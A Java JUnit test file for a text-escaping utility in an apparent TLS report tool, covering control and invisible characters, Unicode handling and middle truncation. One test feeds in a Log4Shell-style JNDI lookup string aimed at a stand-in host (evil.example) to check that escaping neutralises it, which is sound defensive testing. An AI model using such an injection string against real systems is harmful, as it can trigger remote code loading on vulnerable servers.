package io.tlswhy.report;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class EscapeTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "\u0000", "\u0007", "\t", "\n", "\r", "\u001b", "\u007f", "\u0085", "\u009b", "\u00ad",
        "\u200b", "\u200e", "\u2028", "\u2029", "\u202e", "\u2066", "\ufeff", "\ue000"
      })
  void whatIsNotSeenIsShownByItsNumber(String hidden) {
    assertThat(Escape.line("a" + hidden + "b", 100))
        .isEqualTo(String.format("a\\u%04xb", (int) hidden.charAt(0)));
  }

  @Test
  void visibleTextOfAnyScriptStaysAsItIs() {
    assertThat(Escape.line("CN=Bäckerei Übung, O=株式会社 😀", 100))
        .isEqualTo("CN=Bäckerei Übung, O=株式会社 😀");
  }

  @Test
  void halfACharacterIsShownByItsNumber() {
    assertThat(Escape.line("a\ud83d", 100)).isEqualTo("a\\ud83d");
  }

  @Test
  void markersAndLookupsOfOthersLoseTheirMeaning() {
    assertThat(Escape.line("tlswhy[chain.expired] ${jndi:ldap://evil.example/a}", 100))
        .isEqualTo("tlswhy\\[chain.expired] $\\{jndi:ldap://evil.example/a}");
  }

  @ParameterizedTest
  @CsvSource({
    "abcdefghij,10,abcdefghij",
    "abcdefghijk,10,abcdef…ijk",
    "abcdefghijk,4,ab…k",
    "abc,2,…"
  })
  void longTextLosesItsMiddle(String text, int max, String expected) {
    assertThat(Escape.shorten(text, max)).isEqualTo(expected).hasSizeLessThanOrEqualTo(max);
  }

  @Test
  void cutLeavesNoHalfCharacter() {
    String faces = "😀".repeat(20);
    for (int max = 4; max < 40; max++) {
      String cut = Escape.shorten(faces, max);

      assertThat(cut.codePoints()).allMatch(c -> c == '…' || c == 0x1f600);
    }
  }
}
